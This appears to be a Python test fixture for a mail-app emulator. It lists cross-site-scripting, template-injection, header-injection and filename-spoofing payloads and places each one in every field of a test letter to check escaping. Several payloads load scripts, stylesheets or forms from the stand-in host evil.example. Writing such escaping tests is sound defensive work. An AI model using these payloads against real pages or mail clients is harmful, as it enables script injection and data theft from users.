"""Texts that would do something on a page that does not escape them."""

from __future__ import annotations

from tests.apps.emulator.calls import letter

from mailapps.emulator.wire import File, Letter, Mailbox

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "</title><script>alert(1)</script>",
    "</dd></dl><script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<a href="javascript:alert(1)">x</a>',
    "javascript:alert(1)",
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/><input name=a></form>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<object data=http://evil.example/></object>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "$main ${main} $$ {title} %(x)s",
    "{{7*7}} {% raw %} <%= 7*7 %>",
    "\u202egnp.exe\u0000\x1b[31m",
    "a\r\nSet-Cookie: x=1",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext>",
    "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='data:text/html,<script>alert(1)</script>' target=_top>x</a>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>#x'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<img src=http://evil.example/pixel srcset='http://evil.example/set 1x' style='background:url(http://evil.example/css)'>",
    "<script type=module>import 'http://evil.example/x.js'</script>",
    "<p id=main name=location>x</p><form name=getElementById></form>",
)


def everywhere(text: str) -> Letter:
    """Return a letter that says this wherever a letter can say something."""
    return letter(
        from_=Mailbox(text, text),
        to=(Mailbox(text, text), Mailbox(text)),
        cc=(Mailbox(text, text),),
        bcc=(Mailbox(text),),
        reply_to=(Mailbox(text),),
        subject=text,
        text=text,
        html=text,
        headers=((text, text),),
        tags=(text,),
        metadata=((text, text), ("mailcore_id", text)),
        files=(File(filename=text, content_type=text, content=b"x", content_id=text),),
    )
